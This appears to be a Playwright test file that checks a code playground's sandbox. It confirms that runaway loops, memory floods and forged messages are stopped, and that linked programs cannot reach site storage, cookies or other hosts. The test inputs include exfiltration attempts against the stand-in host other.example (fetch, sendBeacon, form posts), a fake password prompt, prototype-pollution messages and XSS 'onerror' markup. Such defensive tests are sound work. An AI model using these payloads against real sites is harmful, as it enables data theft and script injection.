// Malicious programs, including ones from a link.
import { expect, test } from '../site';
import { Bench, createLink } from '../playground/playground-page';

const STOPPED = /Stopped after (?:running|blocking)/;

test.use({
  // Browsers for a desktop run the frame in another process than the page. The headless shell doesn't by default.
  launchOptions: async ({ launchOptions }, use) => {
    await use({ ...launchOptions, args: [...(launchOptions.args ?? []), '--site-per-process'] });
  },
});

/** The page still responds, and the code is still there after a reload. */
async function expectResponsive(bench: Bench, text: string): Promise<void> {
  await bench.run(`console.log("after ${text}");`);
  await expect(bench.said).toContainText(`after ${text}`);
  await bench.page.reload();
  await expect(bench.said).toContainText(`after ${text}`);
}

const endless = {
  'a loop': 'let a = 0;\n\nwhile (true) a += 1;',
  'a loop that catches what stops it':
    'let a;\n\nfor (;;) try { for (;;) a = 1; } catch { continue; }',
  'a loop of promises':
    'const wait = async () => {\n  // on and on\n  for (;;) await null;\n};\nwait();',
  'promises without a loop':
    '\n\nconst next = (): Promise<void> => Promise.resolve().then(next);\nnext();',
  'a loop after some time': 'setTimeout(() => {\n\n  do {} while (1);\n}, 10);',
};

for (const [title, code] of Object.entries(endless)) {
  test(`infinite ${title} is stopped with a message and its line`, async ({ page }) => {
    const bench = await Bench.open(page);
    await bench.run(code);
    await expect(bench.said.getByRole('alert')).toContainText(STOPPED, { timeout: 40_000 });
    await expect(bench.said.getByRole('alert')).toContainText(/Line [1-5] /);
    // What ran is gone, and with it all that it had begun.
    await expect(page.locator('.playground-chart iframe')).toHaveCount(0);
    await expectResponsive(bench, 'the loop');
  });
}

test('a long but finite loop runs to its end', async ({ page }) => {
  const bench = await Bench.open(page);
  await bench.run(
    'let sum = 0;\nfor (let i = 0; i < 1e7; i++) sum += i % 7;\nconsole.log("sum", sum);',
  );
  await expect(bench.said).toContainText('sum 29999994');
});

test('code that hangs where no check can be inserted is removed by the page', async ({ page }) => {
  const bench = await Bench.open(page);
  await bench.run(
    'const script = document.createElement("script");\nscript.textContent = "for (;;) {}";\nsetTimeout(() => document.body.append(script), 500);',
  );
  await expect(bench.said.getByRole('alert')).toContainText(STOPPED, { timeout: 40_000 });
  await expectResponsive(bench, 'the script');
});

test("a tab that was closed while its program hung doesn't rerun it automatically", async ({
  page,
}) => {
  // A page that hangs with its program isn't notified when it is left.
  await page.addInitScript(() =>
    addEventListener('pagehide', (event) => event.stopImmediatePropagation(), { capture: true }),
  );
  const bench = await Bench.open(page);
  await bench.run('setTimeout(() => { for (;;) {} }); console.log("begun");');
  await expect(bench.said).toContainText('begun');
  await page.reload();
  await expect(bench.notice).toContainText('didn’t finish');
  await expect(page.locator('.playground-chart iframe')).toHaveCount(0);
  expect(await bench.text()).toContain('console.log("begun")');
});

test("a program that fills the memory doesn't crash the page", async ({ page }) => {
  test.setTimeout(120_000);
  const bench = await Bench.open(page);
  await bench.run(
    'const all: string[][] = [];\nfor (let i = 0; ; i += 1) all.push(new Array<string>(1e5).fill(String(i)));',
  );
  await expect(bench.said.getByRole('alert')).toContainText(STOPPED, { timeout: 60_000 });
  await expectResponsive(bench, 'all that memory');
});

test("a flood of console output doesn't block the page", async ({ page }) => {
  const bench = await Bench.open(page);
  await bench.run('for (let i = 0; i < 20000; i++) console.log("word", i);\nconsole.log("end");');
  await expect(bench.said).toContainText('Output truncated.');
  expect(await bench.said.locator('p').count()).toBeLessThanOrEqual(501);
  await expectResponsive(bench, 'the flood');
});

const attempts = [
  ['the site’s storage', 'parent.localStorage.getItem("playground");'],
  ['cookies', 'document.cookie;'],
  ['the page around it', 'parent.document.title;'],
  ['to move the page elsewhere', 'top.location.href = "https://other.example/";'],
  ['a file of the site', 'await fetch("/sitemap.xml");'],
  ['another host', 'await fetch("https://other.example/");'],
  ['another host by a picture', 'new Image().src = "https://other.example/a.png";'],
  ['another host by a module', 'await import("https://other.example/a.js");'],
  ['another host by a beacon', 'navigator.sendBeacon("https://other.example/", "a");'],
  [
    'another host by a form',
    'document.body.innerHTML = "<form action=https://other.example/><button></form>"; document.forms[0].submit(); await new Promise((done) => setTimeout(done, 300)); throw new Error("no form");',
  ],
  ['another host by its frame', 'location.href = "https://other.example/";'],
  [
    'another host by a frame in it',
    'document.body.innerHTML = "<iframe src=https://other.example/></iframe>"; await new Promise((done) => setTimeout(done, 300)); throw new Error("no frame");',
  ],
  [
    'another host by a sheet',
    'document.head.innerHTML += "<style>@import url(https://other.example/a.css)</style>"; await new Promise((done) => setTimeout(done, 300)); throw new Error("no sheet");',
  ],
  ['a window', 'if (!open("https://other.example/")) throw new Error("no window");'],
  ['a question', 'if (prompt("Your password?") === null) throw new Error("no prompt");'],
  ['code from text', 'eval("1");'],
] as const;

test("a linked program can't access the site, the network or browser dialogs", async ({
  page,
  context,
}) => {
  test.setTimeout(180_000);
  const foreign: string[] = [];
  await context.route('https://other.example/**', (route) => {
    foreign.push(route.request().url());
    return route.fulfill({ body: 'reached' });
  });
  page.on('dialog', (dialog) => {
    foreign.push(dialog.message());
    void dialog.dismiss();
  });
  const bench = await Bench.open(page);
  for (const [what, code] of attempts) {
    await test.step(what, async () => {
      await page.goto(`./playground${createLink({ 'main.ts': code })}`);
      await expect(bench.said.getByRole('alert'), what).toBeVisible();
      await expect(page).toHaveURL(/\/playground#/);
    });
  }
  expect(foreign).toEqual([]);
  expect(context.pages()).toHaveLength(1);
});

test('forged messages of a program are ignored', async ({ page }) => {
  const bench = await Bench.open(page);
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await bench.run(`
    const send = (live: unknown) => parent.postMessage({ live }, '*');
    for (const live of [null, 1, 'x', [], {}, { type: 'error', message: {} }, { type: 'error', message: 'a', line: {} },
      { type: 'console', level: '__proto__', text: {} }, { type: 'console', level: 'log', text: { a: 1 }, line: 'x' },
      { type: 'storage', area: '__proto__', items: { polluted: 'yes' } }, { type: 'storage', area: 'localStorage', items: null },
      { type: 'console', level: 'log', text: '<img src=x onerror=parent.hit=1>', line: -1 }]) send(live);
    setTimeout(() => console.log('said all'), 100);
  `);
  await expect(bench.said).toContainText('said all');
  await expect(bench.said).toContainText('<img src=x');
  expect(await page.evaluate(() => 'polluted' in {} || 'hit' in window)).toBe(false);
  expect(errors).toEqual([]);
});

test('markup in a link is treated as text', async ({ page }) => {
  const markup = '</script><img src=x onerror="document.title=\'hit\'">';
  const bench = await Bench.open(
    page,
    createLink({ 'main.ts': `// ${markup}`, 'style.css': `/* </style>${markup} */` }),
  );
  await bench.runs();
  await expect(bench.editor()).toContainText('</script><img');
  expect(await page.title()).not.toBe('hit');
  expect(await bench.frame.locator('img').count()).toBe(0);
});

test('a flood of forged messages stops the program', async ({ page }) => {
  const bench = await Bench.open(page);
  await bench.run(
    'for (let i = 0; i < 20000; i++) parent.postMessage({ live: { type: "error", message: String(i) } }, "*");',
  );
  await expect(bench.said.getByRole('alert')).toContainText('too many messages');
  await expectResponsive(bench, 'the flood');
});
